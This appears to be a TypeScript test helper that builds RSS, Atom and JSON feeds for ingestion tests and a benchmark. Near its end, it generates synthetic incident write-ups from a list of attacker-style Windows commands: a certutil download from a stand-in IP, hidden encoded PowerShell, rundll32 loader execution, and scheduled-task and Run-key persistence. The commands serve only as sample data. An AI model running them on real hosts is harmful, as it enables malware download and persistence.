/** Builds the feeds the tests and benchmark serve: RSS 2.0, Atom and JSON Feed around pages we wrote. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

export interface FeedItem {
  url: string;
  title: string;
  published: Date;
  /** Full HTML content; omitted → summary-only feed item. */
  contentHtml?: string;
  summary?: string;
}

const escapeXml = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const cdata = (text: string): string => `<![CDATA[${text.replace(/]]>/g, ']]]]><![CDATA[>')}]]>`;

export function rssFeed(title: string, items: FeedItem[]): string {
  const entries = items
    .map(
      (item) =>
        `<item><title>${escapeXml(item.title)}</title><link>${escapeXml(item.url)}</link><guid>${escapeXml(item.url)}</guid>` +
        `<pubDate>${item.published.toUTCString()}</pubDate>` +
        (item.summary ? `<description>${escapeXml(item.summary)}</description>` : '') +
        (item.contentHtml ? `<content:encoded>${cdata(item.contentHtml)}</content:encoded>` : '') +
        '</item>',
    )
    .join('\n');
  return `<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>${escapeXml(title)}</title><link>http://example.test/</link><description>test</description>\n${entries}\n</channel></rss>`;
}

export function atomFeed(title: string, items: FeedItem[]): string {
  const entries = items
    .map(
      (item) =>
        `<entry><title>${escapeXml(item.title)}</title><id>${escapeXml(item.url)}</id><link rel="alternate" href="${escapeXml(item.url)}"/>` +
        `<updated>${item.published.toISOString()}</updated><published>${item.published.toISOString()}</published>` +
        (item.summary ? `<summary>${escapeXml(item.summary)}</summary>` : '') +
        (item.contentHtml ? `<content type="html">${escapeXml(item.contentHtml)}</content>` : '') +
        '</entry>',
    )
    .join('\n');
  return `<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>${escapeXml(title)}</title><id>urn:test:${escapeXml(title)}</id><updated>2025-01-01T00:00:00Z</updated>\n${entries}\n</feed>`;
}

export function jsonFeed(title: string, items: FeedItem[]): string {
  return JSON.stringify({
    version: 'https://jsonfeed.org/version/1.1',
    title,
    items: items.map((item) => ({
      id: item.url,
      url: item.url,
      title: item.title,
      date_published: item.published.toISOString(),
      ...(item.contentHtml ? { content_html: item.contentHtml } : {}),
      ...(item.summary ? { summary: item.summary } : {}),
    })),
  });
}

const FIXTURE_DIR = join(__dirname, '..', '..', '..', '..', '..', 'fixtures', 'ingestion', 'pages');

/** A page from fixtures/ingestion/pages. */
export function fixturePage(name: string): string {
  return readFileSync(join(FIXTURE_DIR, name), 'utf8');
}

/** The <article> of a fixture page, as a feed would carry it in content:encoded. */
export function articleHtmlOf(page: string): string {
  const match = /<article>([\s\S]*?)<\/article>/.exec(page);
  if (!match) throw new Error('fixture page has no <article>');
  return match[1];
}

const PARAGRAPHS = [
  'The operators staged their tooling in a world-writable folder and renamed each binary after a legitimate updater.',
  'Telemetry from the affected hosts showed the loader contacting its server every few minutes with small random jitter.',
  'Defenders recovered the configuration block from memory and decoded it with a short script shared below.',
  'The second stage enumerated domain trusts and local administrators before moving to the file servers.',
  'We observed the same infrastructure reused across several campaigns over the last quarter.',
  'A scheduled task re-launched the implant at every logon, hidden under a name that mimicked an office add-in.',
  'Shadow copies were removed shortly before encryption, and event logs were cleared on each server.',
];

const COMMANDS = [
  'rundll32.exe %TEMP%\\{n}\\loader.dll,Start',
  'powershell.exe -nop -w hidden -enc SQBFAFgA{n}',
  'schtasks /create /tn "Updater {n}" /tr "C:\\ProgramData\\upd{n}.exe" /sc onlogon',
  'certutil -urlcache -f http://203.0.113.{n}/p.bin %APPDATA%\\p{n}.bin',
  'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd{n} /d C:\\Users\\Public\\u{n}.exe',
];

/** A distinct synthetic write-up (for volume tests and the benchmark): prose plus command lines in <pre>. */
export function syntheticArticleHtml(n: number): string {
  const parts: string[] = [`<h2>Campaign ${n}</h2>`];
  for (let i = 0; i < 6; i++) {
    parts.push(`<p>Case ${n}, stage ${i}: ${PARAGRAPHS[(n + i) % PARAGRAPHS.length]} ${PARAGRAPHS[(n * 3 + i) % PARAGRAPHS.length]}</p>`);
    if (i % 2 === 0) parts.push(`<pre><code>${COMMANDS[(n + i) % COMMANDS.length].replace(/\{n\}/g, String(n))}</code></pre>`);
  }
  return parts.join('\n');
}
